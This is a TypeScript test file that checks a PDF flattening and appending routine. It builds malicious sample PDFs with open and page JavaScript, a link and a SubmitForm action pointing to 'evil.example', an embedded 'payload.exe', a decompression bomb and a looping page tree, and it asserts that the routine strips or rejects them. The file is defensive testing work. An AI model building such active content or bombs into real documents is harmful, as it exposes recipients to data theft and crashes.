import { crc32, deflateSync } from 'node:zlib'
import { decodePDFRawStream, type PDFArray, PDFDocument, PDFName, type PDFRawStream, PDFString } from '@cantoo/pdf-lib'
import { describe, expect, test } from 'vitest'
import { appendFiles, flattenFiles } from '../../src/api/pdf/append-files.ts'

const PDF = 'application/pdf'
const NOTE = 'A document of the student'

/** A text as a PDF with a standard font has it. */
const hex = (text: string) => Buffer.from(text, 'latin1').toString('hex').toUpperCase()

/** Returns a PDF with a text on each of its pages. */
async function pdfOf(
  texts: readonly string[],
  change: (doc: PDFDocument) => unknown = () => undefined,
): Promise<Buffer> {
  const doc = await PDFDocument.create()
  for (const text of texts) doc.addPage([300, 200]).drawText(text, { x: 20, y: 100, size: 12 })
  await change(doc)
  return Buffer.from(await doc.save({ useObjectStreams: false }))
}

const flatten = async (bytes: Buffer, contentType = PDF) => (await flattenFiles([{ bytes, contentType }]))[0]!

/** A grey PNG of a size, which its few bytes do not show. */
function pngOf(width: number, height: number): Buffer {
  const chunk = (type: string, data: Buffer) => {
    const body = Buffer.concat([Buffer.from(type), data])
    const length = Buffer.alloc(4)
    length.writeUInt32BE(data.length)
    const sum = Buffer.alloc(4)
    sum.writeUInt32BE(crc32(body))
    return Buffer.concat([length, body, sum])
  }
  const header = Buffer.alloc(13)
  header.writeUInt32BE(width, 0)
  header.writeUInt32BE(height, 4)
  header[8] = 8
  const rows = deflateSync(Buffer.alloc(height * (width + 1)))
  const signature = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a])
  return Buffer.concat([signature, chunk('IHDR', header), chunk('IDAT', rows), chunk('IEND', Buffer.alloc(0))])
}

const dictionary = (doc: PDFDocument, entries: Record<string, unknown>) => doc.context.obj(entries as never)

describe('a file that is appended to a document', () => {
  test('is drawn on pages of its own, after those of the document, with the note at the foot', async () => {
    const document = await pdfOf(['The packet'])
    const flat = await flatten(await pdfOf(['Medical certificate', 'Second page']))
    const whole = await PDFDocument.load(await appendFiles(document, [flat!], NOTE))
    expect(whole.getPageCount()).toBe(3)
    const hasNote = whole.getPages().map((page) => {
      const contents = page.node.Contents() as PDFArray
      const streams = contents.asArray().map((one) => page.doc.context.lookup(one) as PDFRawStream)
      return streams.some((one) => Buffer.from(decodePDFRawStream(one).decode()).toString('latin1').includes(hex(NOTE)))
    })
    expect(hasNote).toEqual([false, true, true])
  })

  test('may be a picture', async () => {
    expect((await PDFDocument.load((await flatten(pngOf(40, 30), 'image/png'))!)).getPageCount()).toBe(1)
  })

  test.for<[string, (doc: PDFDocument) => unknown]>([
    ['a script that runs when it is opened', (doc) => doc.addJavaScript('open', 'app.alert(1)')],
    [
      'a script of a page',
      (doc) =>
        doc
          .getPage(0)
          .node.set(PDFName.of('AA'), dictionary(doc, { O: { S: 'JavaScript', JS: PDFString.of('app.alert(2)') } })),
    ],
    [
      'a link',
      (doc) =>
        doc.getPage(0).node.set(
          PDFName.of('Annots'),
          doc.context.obj([
            dictionary(doc, {
              Type: 'Annot',
              Subtype: 'Link',
              Rect: [0, 0, 300, 200],
              A: { S: 'URI', URI: PDFString.of('https://evil.example') },
            }),
          ] as never),
        ),
    ],
    ['an attached file', (doc) => doc.attach(Buffer.from('MZ payload'), 'payload.exe', { mimeType: 'text/plain' })],
    ['a form', (doc) => doc.getForm().createTextField('secret').addToPage(doc.getPage(0))],
    [
      'an action that sends it somewhere',
      (doc) =>
        doc.catalog.set(
          PDFName.of('OpenAction'),
          dictionary(doc, { S: 'SubmitForm', F: PDFString.of('https://evil.example') }),
        ),
    ],
  ])('leaves %s behind', async ([, change]) => {
    const bytes = await pdfOf(['Kept'], change)
    const flat = await PDFDocument.load((await flatten(bytes))!)
    const plain = Buffer.from(await flat.save({ useObjectStreams: false })).toString('latin1')
    for (const word of [
      'JavaScript',
      '/JS',
      '/AA',
      '/URI',
      'evil',
      'EmbeddedFile',
      '/AcroForm',
      '/Subtype /Link',
      'SubmitForm',
    ]) {
      expect(plain, word).not.toContain(word)
    }
  })

  test.for<[string, () => Promise<Buffer> | Buffer, string?]>([
    ['has more than 20 pages', () => pdfOf(Array.from({ length: 21 }, (_, n) => `Page ${n}`))],
    ['is no PDF', () => Buffer.from('%PDF-1.7\nnothing of it')],
    ['ends in the middle', async () => (await pdfOf(['Cut'])).subarray(0, 200)],
    ['is empty', () => Buffer.alloc(0)],
    ['is no picture', () => Buffer.from('GIF89a'), 'image/png'],
    ['is a picture of too many pixels', () => pngOf(9_000, 8_000), 'image/png'],
    [
      'unpacks to more than is allowed',
      () => pdfOf(['Bomb'], (doc) => doc.context.register(doc.context.flateStream(Buffer.alloc(65_000_000)))),
    ],
    [
      'has a tree of pages without an end',
      async () => {
        const text = (await pdfOf(['Loop'])).toString('latin1')
        const tree = /(\d+) 0 obj\n<<\n\/Type \/Pages/.exec(text)?.[1]
        return Buffer.from(text.replace(/\/Kids \[ \d+ 0 R \]/, `/Kids [ ${tree} 0 R ]`), 'latin1')
      },
    ],
  ])('that %s is left out, and the next one is read', async ([, bytes, contentType = PDF]) => {
    const files = [
      { bytes: await bytes(), contentType },
      { bytes: await pdfOf(['The next']), contentType: PDF },
    ]
    const [first, second] = await flattenFiles(files)
    expect(first === null).toBe(true)
    expect(second).not.toBeNull()
  })
})
